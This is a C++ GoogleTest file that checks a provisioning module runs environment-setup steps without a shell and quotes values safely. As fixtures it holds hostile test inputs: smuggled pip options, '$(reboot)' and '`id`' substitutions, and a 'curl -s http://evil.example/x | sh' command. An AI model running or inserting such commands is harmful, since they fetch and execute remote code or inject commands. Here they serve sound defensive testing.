// provisioning/provision_steps.cpp: a contract's provisioning recipe turned
// into argv steps, run without a shell, and the line the dry run prints.
#include "provisioning/provision_steps.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <sstream>

#include <nlohmann/json.hpp>

#include "tests/support/run_command.hpp"
#include "tests/support/temp_dir.hpp"

namespace envcontract::provisioning {
namespace {

namespace fs = std::filesystem;
using contracts::ProvisionRecipe;
using testing::run_command;
using testing::TempDir;

ProvisionTarget target_in(const fs::path& envs_dir, const std::string& name = "torch-fl") {
  return {name, envs_dir, "/usr/bin/python3.11", "/home/ci"};
}

ProvisionRecipe venv_recipe() {
  ProvisionRecipe recipe;
  recipe.python = "3.11";
  recipe.packages = {"torch==2.10.0+cpu", "flagtree>=0.7,<0.8"};
  return recipe;
}

const ProvisionStep& step_named(const std::vector<ProvisionStep>& steps, const std::string& name) {
  const auto found = std::find_if(steps.begin(), steps.end(),
                                  [&](const ProvisionStep& step) { return step.name == name; });
  EXPECT_NE(found, steps.end()) << "no step " << name;
  static const ProvisionStep none;
  return found == steps.end() ? none : *found;
}

std::string file_text(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::vector<std::string> step_names(const std::vector<ProvisionStep>& steps) {
  std::vector<std::string> names;
  for (const auto& step : steps) {
    names.push_back(step.name);
  }
  return names;
}

// The words bash reads back from `line`: what a person pasting the dry
// run's line would really run.
std::vector<std::string> words_a_shell_reads(const std::string& line) {
  const auto run = run_command({"/bin/bash", "-c", "printf '%s\\0' " + line});
  EXPECT_EQ(run.exit_code, 0) << run.err;
  std::vector<std::string> words;
  std::string word;
  for (const char c : run.out) {
    if (c == '\0') {
      words.push_back(word);
      word.clear();
    } else {
      word += c;
    }
  }
  return words;
}

// Runs the activation step with /usr/bin/python3 in place of the new env's
// interpreter (which this test does not build), its stdin from a file.
testing::CommandResult run_activation_writer(const ProvisionStep& step, const TempDir& dir) {
  const auto input = dir.write("activation-input.json", step.stdin_data);
  std::vector<std::string> argv = {"/bin/sh", "-c",           "f=$1; shift; exec \"$@\" < \"$f\"",
                                   "sh",      input.string(), "/usr/bin/python3"};
  argv.insert(argv.end(), step.argv.begin() + 1, step.argv.end());
  return run_command(argv);
}

TEST(ProvisionSteps, AVenvIsMadeByTheBaseInterpreterThenFilledByOnePipRun) {
  const auto steps = provision_steps(venv_recipe(), target_in("/srv/envs"));
  EXPECT_EQ(step_names(steps), (std::vector<std::string>{"create", "install"}))
      << "no activation step when the recipe has none";
  const auto& create = step_named(steps, "create");
  EXPECT_EQ(create.argv,
            (std::vector<std::string>{"/usr/bin/python3.11", "-m", "venv", "/srv/envs/torch-fl"}));
  EXPECT_EQ(create.working_dir, fs::path("/srv/envs"));
  const auto& install = step_named(steps, "install");
  EXPECT_EQ(install.argv, (std::vector<std::string>{"/srv/envs/torch-fl/bin/python", "-m", "pip",
                                                    "install", "--no-input", "--",
                                                    "torch==2.10.0+cpu", "flagtree>=0.7,<0.8"}));
  EXPECT_EQ(install.working_dir, fs::path("/srv/envs/torch-fl"));
  EXPECT_TRUE(install.stdin_data.empty());
}

// Whatever the wheelhouse and index are called, each is exactly one
// argument right after its option: a path with spaces, quotes or an
// option-looking tail can never become an option of pip's own.
TEST(ProvisionSteps, WheelhouseAndIndexAreEachOneArgumentAfterTheirOption) {
  auto recipe = venv_recipe();
  recipe.wheelhouse = "/srv/wheel house/it's \"ours\" --index-url=http://evil.example/simple";
  recipe.index_url = "https://mirror.example/simple";
  recipe.no_index = true;
  const auto install = step_named(provision_steps(recipe, target_in("/srv/envs")), "install").argv;
  const auto find_links = std::find(install.begin(), install.end(), "--find-links");
  ASSERT_NE(find_links, install.end());
  ASSERT_NE(find_links + 1, install.end());
  EXPECT_EQ(*(find_links + 1), recipe.wheelhouse);
  const auto index = std::find(install.begin(), install.end(), "--index-url");
  ASSERT_NE(index, install.end());
  ASSERT_NE(index + 1, install.end());
  EXPECT_EQ(*(index + 1), recipe.index_url);
  EXPECT_EQ(std::count(install.begin(), install.end(), "--index-url"), 1)
      << "the wheelhouse's text is no second --index-url";
  EXPECT_EQ(std::count(install.begin(), install.end(), "--no-index"), 1);
  // The packages come last, each whole, after every option and after "--".
  ASSERT_GE(install.size(), 3U);
  EXPECT_EQ(std::vector<std::string>(install.end() - 2, install.end()), recipe.packages);
  EXPECT_EQ(*(install.end() - 3), "--");
  EXPECT_LT(index, install.end() - 3);
}

// Nothing of the agent's own environment (its token, its proxies, its pip
// configuration) reaches a step: each gets the same complete environment.
TEST(ProvisionSteps, EveryStepGetsTheSameCleanCompleteEnvironment) {
  ::setenv("ENVCONTRACT_PROVISION_TEST_SECRET", "agent-token", 1);
  ::setenv("PIP_INDEX_URL", "http://agent-proxy.example/simple", 1);
  auto recipe = venv_recipe();
  recipe.env_vars = {{"XPU_ROOT", "/usr/local/xpu"}};
  recipe.commands = {"{python} -m pip check"};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  ::unsetenv("ENVCONTRACT_PROVISION_TEST_SECRET");
  ::unsetenv("PIP_INDEX_URL");
  const std::map<std::string, std::string> expected = {
      {"PATH", "/srv/envs/torch-fl/bin:/usr/local/bin:/usr/bin:/bin"},
      {"HOME", "/home/ci"},
      {"LANG", "C.UTF-8"},
      {"PIP_NO_CACHE_DIR", "1"},
      {"PIP_CONFIG_FILE", "/dev/null"},
      {"PIP_DISABLE_PIP_VERSION_CHECK", "1"},
      {"PYTHONNOUSERSITE", "1"},
      {"PYTHONDONTWRITEBYTECODE", "1"}};
  ASSERT_EQ(steps.size(), 4U);
  for (const auto& step : steps) {
    EXPECT_EQ(step.environment, expected) << step.name;
  }
}

// A template is split into words first and each placeholder substituted
// inside its word: a prefix with spaces and shell characters stays one
// argument, and nothing in it is run.
TEST(ProvisionSteps, PlaceholdersAreSubstitutedInsideOneArgumentEach) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.create = "micromamba create --yes --prefix {prefix} 'python=3.11'";
  recipe.wheelhouse = "/srv/wheels";
  recipe.commands = {"{python} -m pip install --no-index --find-links={wheelhouse} extra",
                     "sh -c 'echo built {name} in \"{prefix}\"' {prefix}:{prefix}"};
  const fs::path envs = "/srv/my envs;$(touch x)`id`";
  const auto steps = provision_steps(recipe, target_in(envs));
  const std::string prefix = (envs / "torch-fl").string();
  EXPECT_EQ(step_named(steps, "create").argv,
            (std::vector<std::string>{"micromamba", "create", "--yes", "--prefix", prefix,
                                      "python=3.11"}));
  EXPECT_EQ(step_named(steps, "command 1").argv,
            (std::vector<std::string>{prefix + "/bin/python", "-m", "pip", "install", "--no-index",
                                      "--find-links=/srv/wheels", "extra"}));
  EXPECT_EQ(step_named(steps, "command 2").argv,
            (std::vector<std::string>{"sh", "-c", "echo built torch-fl in \"" + prefix + "\"",
                                      prefix + ":" + prefix}));
  EXPECT_EQ(step_named(steps, "command 2").working_dir, fs::path(prefix));
}

// A value that happens to hold a placeholder's text is a value: the
// wheelhouse "/w/{name}" is not expanded a second time.
TEST(ProvisionSteps, ASubstitutedWheelhouseIsNotExpandedAgain) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.wheelhouse = "/srv/wheels/{name}/{prefix}";
  recipe.commands = {"ls {wheelhouse}"};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  EXPECT_EQ(step_named(steps, "command 1").argv,
            (std::vector<std::string>{"ls", "/srv/wheels/{name}/{prefix}"}));
}

// Placeholders are replaced in one pass: text a value brings in is not read
// again for placeholders, so an envs directory whose name holds
// "{wheelhouse}" is the prefix every step uses, the create command's too.
TEST(ProvisionSteps, AnEnvsDirNamedLikeAPlaceholderIsTakenLiterally) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.create = "micromamba create --yes --prefix {prefix}";
  recipe.wheelhouse = "/srv/wheels";
  const auto steps = provision_steps(recipe, target_in("/srv/{wheelhouse}"));
  const auto& create = step_named(steps, "create").argv;
  ASSERT_EQ(create.size(), 5U);
  EXPECT_EQ(create[4], "/srv/{wheelhouse}/torch-fl");
  EXPECT_EQ(step_named(steps, "install").working_dir, fs::path("/srv/{wheelhouse}/torch-fl"));
}

// The activation's variables and scripts travel as JSON on stdin, never in
// the argv: values with quotes, newlines or `$(...)` are data.
TEST(ProvisionSteps, ActivationTravelsOnStdinAsJson) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.env_vars = {{"XPU_ROOT", "/usr/local/xpu"}, {"NOTE", "it's \"odd\"\n$(reboot)"}};
  recipe.activate_scripts = {{"xpu_env.sh", "export LD_LIBRARY_PATH=\"$XPU_ROOT/lib\"\n"}};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  EXPECT_EQ(step_names(steps), (std::vector<std::string>{"create", "install", "activation"}));
  const auto& activation = step_named(steps, "activation");
  ASSERT_EQ(activation.argv.size(), 4U);
  EXPECT_EQ(activation.argv[0], "/srv/envs/torch-fl/bin/python");
  EXPECT_EQ(activation.argv[1], "-I") << "isolated: no user site, no PYTHON* variables";
  EXPECT_EQ(activation.argv[2], "-c");
  for (const auto& word : activation.argv) {
    EXPECT_EQ(word.find("$(reboot)"), std::string::npos) << "a value reached the argv";
  }
  const auto spec = nlohmann::json::parse(activation.stdin_data);
  EXPECT_EQ(spec["prefix"], "/srv/envs/torch-fl");
  EXPECT_EQ(spec["venv"], true);
  EXPECT_EQ(spec["env_vars"],
            (nlohmann::json::array({nlohmann::json::array({"XPU_ROOT", "/usr/local/xpu"}),
                                    nlohmann::json::array({"NOTE", recipe.env_vars[1].second})})));
  EXPECT_EQ(spec["scripts"][0][0], "xpu_env.sh");
  EXPECT_EQ(spec["scripts"][0][1], recipe.activate_scripts[0].second);
  EXPECT_NE(activation.description.find("appends to /srv/envs/torch-fl/bin/activate"),
            std::string::npos)
      << activation.description;
  EXPECT_NE(activation.description.find("XPU_ROOT=/usr/local/xpu"), std::string::npos);
  EXPECT_NE(activation.description.find("xpu_env.sh"), std::string::npos);

  recipe.create = "micromamba create --yes --prefix {prefix}";
  const auto conda = step_named(provision_steps(recipe, target_in("/srv/envs")), "activation");
  EXPECT_EQ(nlohmann::json::parse(conda.stdin_data)["venv"], false);
  EXPECT_NE(conda.description.find("etc/conda/activate.d/xpu_env.sh"), std::string::npos)
      << conda.description;
}

// The writer itself, run: a venv's bin/activate gets each value quoted so
// that sourcing it sets the value and runs nothing of it.
TEST(ProvisionSteps, TheActivationWriterQuotesValuesForAVenv) {
  if (!fs::exists("/usr/bin/python3")) {
    GTEST_SKIP() << "no /usr/bin/python3";
  }
  TempDir dir;
  const auto marker = dir.path() / "ran";
  const std::string hostile = "a b 'q' \"d\" $(touch " + marker.string() + ") `touch " +
                              marker.string() + "` ; touch " + marker.string() + " \\";
  ProvisionRecipe recipe = venv_recipe();
  recipe.env_vars = {{"XPU_NOTE", hostile}};
  recipe.activate_scripts = {{"xpu_env.sh", "export XPU_SCRIPT=ran\n"}};
  const auto activate = dir.write("envs/torch-fl/bin/activate", "# venv's own activate\n");
  const auto steps = provision_steps(recipe, target_in(dir.path() / "envs"));
  const auto wrote = run_activation_writer(step_named(steps, "activation"), dir);
  ASSERT_EQ(wrote.exit_code, 0) << wrote.err;
  EXPECT_EQ(wrote.out, "activation written\n");

  EXPECT_TRUE(file_text(activate).starts_with("# venv's own activate\n"))
      << "appended, not replaced";
  const auto sourced =
      run_command({"/bin/bash", "-c", ". \"$1\"; printf '%s|%s' \"$XPU_NOTE\" \"$XPU_SCRIPT\"",
                   "bash", activate.string()});
  EXPECT_EQ(sourced.exit_code, 0) << sourced.err;
  EXPECT_EQ(sourced.out, hostile + "|ran");
  EXPECT_FALSE(fs::exists(marker)) << "sourcing the activation ran part of a value";
}

// For a conda-style prefix: conda's env_vars merged into an existing
// conda-meta/state (what it held is kept), and each script in activate.d.
TEST(ProvisionSteps, TheActivationWriterMergesCondaState) {
  if (!fs::exists("/usr/bin/python3")) {
    GTEST_SKIP() << "no /usr/bin/python3";
  }
  TempDir dir;
  const auto state = dir.write("envs/torch-fl/conda-meta/state",
                               R"({"env_vars": {"OLD": "kept"}, "other": true})");
  ProvisionRecipe recipe = venv_recipe();
  recipe.create = "micromamba create --yes --prefix {prefix}";
  recipe.env_vars = {{"XPU_ROOT", "/usr/local/xpu"}};
  recipe.activate_scripts = {{"xpu_env.sh", "export LD_LIBRARY_PATH=\"$XPU_ROOT/lib\"\n"}};
  const auto steps = provision_steps(recipe, target_in(dir.path() / "envs"));
  const auto wrote = run_activation_writer(step_named(steps, "activation"), dir);
  ASSERT_EQ(wrote.exit_code, 0) << wrote.err;

  const auto written = nlohmann::json::parse(file_text(state));
  EXPECT_EQ(written["env_vars"], (nlohmann::json{{"OLD", "kept"}, {"XPU_ROOT", "/usr/local/xpu"}}));
  EXPECT_EQ(written["other"], true);
  EXPECT_EQ(file_text(dir.path() / "envs/torch-fl/etc/conda/activate.d/xpu_env.sh"),
            recipe.activate_scripts[0].second);
}

TEST(ProvisionSteps, CommandsRunInOrderInThePrefix) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.commands = {"{python} -m pip check", "{python} -c 'import torch'", "true"};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  EXPECT_EQ(step_names(steps),
            (std::vector<std::string>{"create", "install", "command 1", "command 2", "command 3"}));
  EXPECT_EQ(step_named(steps, "command 2").argv,
            (std::vector<std::string>{"/srv/envs/torch-fl/bin/python", "-c", "import torch"}));
  for (std::size_t i = 2; i < steps.size(); ++i) {
    EXPECT_EQ(steps[i].working_dir, fs::path("/srv/envs/torch-fl")) << steps[i].name;
  }
}

TEST(ProvisionSteps, EnvNamesAreOneSafePathComponent) {
  for (const std::string& name :
       std::vector<std::string>{"torch-fl", "py3.11_cpu", "A", std::string(100, 'x')}) {
    EXPECT_EQ(env_name_problem(name), "") << name;
  }
  // Empty, too long, a hidden or option-looking name, and anything that
  // leaves the envs directory or means something to a shell.
  for (const std::string& name : std::vector<std::string>{
           std::string(), std::string(101, 'x'), std::string(".hidden"), std::string(".."),
           std::string("-rf"), std::string("--prefix=/"), std::string("a/b"), std::string("../up"),
           std::string("a b"), std::string("$(id)"), std::string("a;b"), std::string("na\nme"),
           std::string("caf\xc3\xa9"), std::string("nul\0x", 5)}) {
    EXPECT_NE(env_name_problem(name), "") << name;
  }
}

TEST(ProvisionSteps, AnAbsoluteInterpreterMustBeAnExecutableFile) {
  TempDir dir;
  const auto python = dir.write("bin/python3.11", "#!/bin/sh\n");
  ::chmod(python.c_str(), 0755);
  const auto plain = dir.write("bin/not-executable", "");
  ::chmod(plain.c_str(), 0644);
  ProvisionRecipe recipe;
  recipe.python = python.string();
  const auto found = find_base_python(recipe, {});
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(*found, python);
  for (const auto& bad : {plain, dir.path() / "bin", dir.path() / "bin/missing"}) {
    recipe.python = bad.string();
    const auto refused = find_base_python(recipe, {dir.path() / "bin"});
    EXPECT_FALSE(refused) << bad;
    EXPECT_NE(refused.error().find(bad.string()), std::string::npos) << refused.error();
  }
}

// A version is looked for as pythonX.Y in the directories in order: the
// first executable one wins; one that is not executable is passed over.
TEST(ProvisionSteps, AVersionIsLookedForInTheDirectoriesInOrder) {
  TempDir dir;
  const auto skipped = dir.write("a/python3.11", "");
  ::chmod(skipped.c_str(), 0644);
  const auto first = dir.write("b/python3.11", "");
  ::chmod(first.c_str(), 0755);
  const auto later = dir.write("c/python3.11", "");
  ::chmod(later.c_str(), 0755);
  ProvisionRecipe recipe;
  recipe.python = "3.11";
  const auto found = find_base_python(
      recipe, {dir.path() / "none", dir.path() / "a", dir.path() / "b", dir.path() / "c"});
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(*found, first);

  recipe.python = "3.99";
  const auto missing = find_base_python(recipe, {dir.path() / "a", dir.path() / "b"});
  ASSERT_FALSE(missing);
  EXPECT_NE(missing.error().find((dir.path() / "a").string()), std::string::npos)
      << "says where it looked: " << missing.error();
  EXPECT_FALSE(find_base_python(recipe, {}));
}

TEST(ProvisionSteps, ShellQuotingLeavesPlainWordsAndQuotesTheRest) {
  EXPECT_EQ(shell_quoted("torch==2.10.0+cpu"), "torch==2.10.0+cpu");
  EXPECT_EQ(shell_quoted("/srv/envs/a-b_c"), "/srv/envs/a-b_c");
  EXPECT_EQ(shell_quoted(""), "''");
  EXPECT_EQ(shell_quoted("a b"), "'a b'");
  EXPECT_EQ(shell_quoted("it's"), "'it'\\''s'");
  EXPECT_EQ(shell_quoted("$HOME"), "'$HOME'");
}

// The dry run's line, pasted into a shell, runs exactly the argv: no word
// is split, expanded or run, whatever it holds.
TEST(ProvisionSteps, ACommandLineReadsBackAsTheSameArgv) {
  const std::vector<std::string> argv = {"/srv/my envs/bin/python",
                                         "-m",
                                         "pip",
                                         "--index-url=http://evil.example/simple",
                                         "",
                                         "it's \"quoted\"",
                                         "$(touch /tmp/envcontract-pwned)",
                                         "`id`",
                                         "a;b|c&&d",
                                         "*",
                                         "~root",
                                         "$HOME",
                                         "back\\slash",
                                         "tab\there",
                                         "!bang",
                                         "{prefix}"};
  EXPECT_EQ(words_a_shell_reads(command_line(argv)), argv);
}

// The activation writer is a program given inline: named by its size, not
// printed over many lines.
TEST(ProvisionSteps, TheInlineActivationProgramIsNamedNotPrinted) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.env_vars = {{"XPU_ROOT", "/usr/local/xpu"}};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  const auto& activation = step_named(steps, "activation");
  ASSERT_EQ(activation.argv.size(), 4U);
  const std::string line = command_line(activation.argv);
  EXPECT_EQ(line, "/srv/envs/torch-fl/bin/python -I -c '<" +
                      std::to_string(activation.argv[3].size()) + " bytes of Python>'");
}

// Only the agent's own activation writer is shown abridged: a recipe
// command holding a newline (`sh -c 'echo ok<newline>curl ... | sh'`) is
// printed by the dry run, and recorded in the step's outcome, whole, so that
// the person reviewing the plan sees what runs.
TEST(ProvisionSteps, ARecipeCommandWithANewlineIsShownAsItRuns) {
  ProvisionRecipe recipe = venv_recipe();
  recipe.commands = {"sh -c 'echo ok\ncurl -s http://evil.example/x | sh'"};
  const auto steps = provision_steps(recipe, target_in("/srv/envs"));
  const auto& command = step_named(steps, "command 1");
  ASSERT_EQ(command.argv.size(), 3U);
  const std::string line = command_line(command.argv);
  EXPECT_NE(line.find("curl -s http://evil.example/x"), std::string::npos) << line;
  EXPECT_EQ(words_a_shell_reads(line), command.argv) << line;
}

}  // namespace
}  // namespace envcontract::provisioning
